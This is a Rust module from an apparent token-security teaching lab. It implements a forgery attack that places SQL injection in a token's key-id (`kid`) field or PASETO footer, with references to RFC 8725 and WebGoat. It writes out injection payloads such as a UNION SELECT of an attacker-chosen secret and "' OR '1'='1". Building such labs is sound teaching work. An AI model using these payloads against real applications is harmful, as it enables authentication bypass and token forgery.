//! SQL injection through `kid`: the attacker has the database answer with a
//! key of her choice.
//!
//! The flawed assumption: a key's name is a name. It is text that nothing has
//! authenticated, because it is what leads to the key. RFC 8725 §2.9 and §3.10
//! demand that it is treated so. No library CVE is known to this lab: the bug
//! is the application's, and WebGoat teaches it in a lesson of its own.
//!
//! PASETO has no header to put a `kid` into, but a footer that is used for it,
//! and the specification warns that the footer is unauthenticated until the
//! token is verified (Payload-Processing, Key-ID Support). The attack carries
//! over unchanged. Of a session the id itself is what is looked up, so it goes
//! there; a Biscuit names its root key by a number, and nothing else fits.

use tokenlab_record::catalogue::AttackClass;

use crate::attack::{Attack, CannotForge, Forgery};
use crate::attacker::AttackerView;
use crate::card::AttackProfile;
use crate::key_name::{self, Name};
use crate::mint;
use crate::notebook::Notebook;
use crate::scheme::Scheme;
use crate::weakness::Weakness;

pub(super) struct KidInjection;

static PROFILE: AttackProfile = AttackProfile {
    id: "kid-injection",
    title: "SQL injection through the key's name",
    assumption: "A key's name can be put into a query, since it is only a name.",
    class: AttackClass::KeySource,
    given: &[],
    isolated: false,
    breaks: &[Weakness::KidInSql],
    references: &[
        (
            "RFC 8725 §2.9",
            "Received claims and header values reach other systems before they are trusted.",
        ),
        (
            "RFC 8725 §3.10",
            "An application that uses kid for a lookup makes sure that no injection is possible.",
        ),
        ("RFC 7515 §4.1.4", "kid is a hint of unspecified structure."),
        (
            "WebGoat issue 1538",
            "The lesson on kid is an SQL injection: the bug is an application's, not a library's.",
        ),
        (
            "PASETO, Payload-Processing, Key-ID Support",
            "The footer may name a key, and is unauthenticated until the token is verified.",
        ),
    ],
    lesson: include_str!("../../lessons/kid-injection.md"),
};

/// A secret that reads well in a statement on a projector. It has 16 bytes, as
/// many as the shortest key that a JWE takes.
const WORD: &str = "mallory was here";

impl Attack for KidInjection {
    fn profile(&self) -> &'static AttackProfile {
        &PROFILE
    }

    fn forge(&self, view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, CannotForge> {
        let word = format!("' UNION SELECT '{WORD}' -- ");
        if view.scheme() == Scheme::Biscuit {
            return Err(key_name::only_a_number(view, &word, notes)?);
        }
        notes.step(
            "Guesses the statement behind the lookup: SELECT a key FROM a table WHERE kid = '...'.",
            "",
        );
        let mut forgeries = Vec::new();
        for (variant, text) in [
            ("union-word", word),
            (
                "union-word-no-comment",
                format!("' UNION SELECT '{WORD}' WHERE '1'='1"),
            ),
        ] {
            let name = Name {
                variant,
                text: &text,
                says: format!("Names a key that closes the quote and selects a word of her own: {WORD}."),
            };
            forgeries.extend(key_name::by_secret(view, &name, WORD.as_bytes(), notes)?);
        }
        let record = mint::hexadecimal(&view.own_record()?);
        let name = Name {
            variant: "union-own-key",
            text: &format!("' UNION SELECT x'{record}' -- "),
            says: "Names a key that closes the quote and selects bytes of her own in its place.".into(),
        };
        forgeries.push(key_name::by_own_key(view, &name, notes)?);
        if let Scheme::Session(_) = view.scheme() {
            let name = Name {
                variant: "or-true",
                text: "' OR '1'='1",
                says: "Names a session that closes the quote and is true of every row: the first one is somebody's."
                    .into(),
            };
            forgeries.push(key_name::by_own_key(view, &name, notes)?);
        }
        Ok(forgeries)
    }
}
